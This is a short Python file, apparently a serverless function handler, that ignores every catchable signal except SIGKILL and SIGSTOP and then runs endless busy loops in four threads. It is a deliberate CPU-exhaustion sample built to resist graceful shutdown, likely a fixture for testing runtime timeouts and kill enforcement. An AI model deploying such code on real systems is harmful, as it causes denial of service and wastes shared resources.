import signal
import threading


def spin():
    while True:
        pass


def handler(event, context):
    for number in range(1, 32):
        if number not in {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(number, signal.SIG_IGN)
    for _ in range(3):
        threading.Thread(target=spin).start()
    spin()
